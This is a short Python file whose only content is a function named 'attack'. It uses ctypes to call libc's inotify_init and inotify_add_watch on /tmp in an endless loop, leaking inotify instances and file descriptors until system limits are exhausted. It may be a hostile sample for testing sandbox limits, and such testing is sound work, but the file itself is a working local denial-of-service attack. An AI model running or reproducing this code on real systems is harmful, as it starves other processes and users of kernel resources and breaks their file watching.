"""Watches files without end."""

import ctypes


def attack(x):
    libc = ctypes.CDLL(None)
    while (watch := libc.inotify_init()) >= 0:
        libc.inotify_add_watch(watch, b"/tmp", 0xFFF)
